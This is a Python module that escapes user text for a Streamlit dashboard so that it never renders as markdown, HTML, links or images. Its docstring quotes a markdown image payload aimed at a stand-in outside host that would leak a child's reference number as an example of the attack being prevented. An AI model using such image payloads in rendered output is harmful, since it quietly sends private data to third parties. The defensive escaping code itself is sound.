"""User text shown on the dashboard exactly as typed: never markdown, HTML, a link or an image.

Streamlit renders `st.markdown`, `st.success`, `st.error`… as markdown, so a summary holding
`![](https://elsewhere/?child=C-0001)` would make the viewer's browser call out with the child's
reference. Every character that could start markdown or HTML is written as a numeric character
reference (`&#33;` for `!`), which markdown shows as that character and never reads as syntax:
brackets, emphasis, code, tags, entities, headings, lists and quotes at a line's start, and
Streamlit's `:color[…]`, `:emoji:` and `$math$`. Streamlit also turns bare addresses into links
(`http://…`, `www.…`, `a@b.c`), so an invisible word joiner (U+2060) goes where each would
start. Ordinary punctuation inside words (`police-north:P-1`, `lawful_basis`) is left alone.
A line break stays a line break.
"""

from __future__ import annotations

import re

WORD_JOINER = "\u2060"
_ADDRESS_START = re.compile(r"(https?|ftp|mailto|www|@)", re.IGNORECASE)
_SYNTAX = re.compile(
    r"^(?P<indent>[ \t]+)"
    r"|^(?P<marker>[-+=])"
    r"|^(?P<number>\d{1,9})(?P<dot>[.)])"
    r"|(?P<character>[\\`*\[\]()<>!#|~$&{}])"
    r"|(?P<underscore>(?<![A-Za-z0-9])_|_(?![A-Za-z0-9]))"
    r"|(?P<colon>(?<![A-Za-z0-9]):(?=[A-Za-z]))",
    re.MULTILINE,
)


def _reference(text: str) -> str:
    return "".join(f"&#{ord(c)};" for c in text)


def _escape(found: re.Match[str]) -> str:
    if found["number"] is not None:
        return found["number"] + _reference(found["dot"])
    return _reference(found.group())


def plain(text: object) -> str:
    """`text` for any Streamlit element that renders markdown, shown exactly as typed."""
    unlinked = _ADDRESS_START.sub(lambda found: found.group() + WORD_JOINER, str(text))
    return _SYNTAX.sub(_escape, unlinked).replace("\n", "  \n")
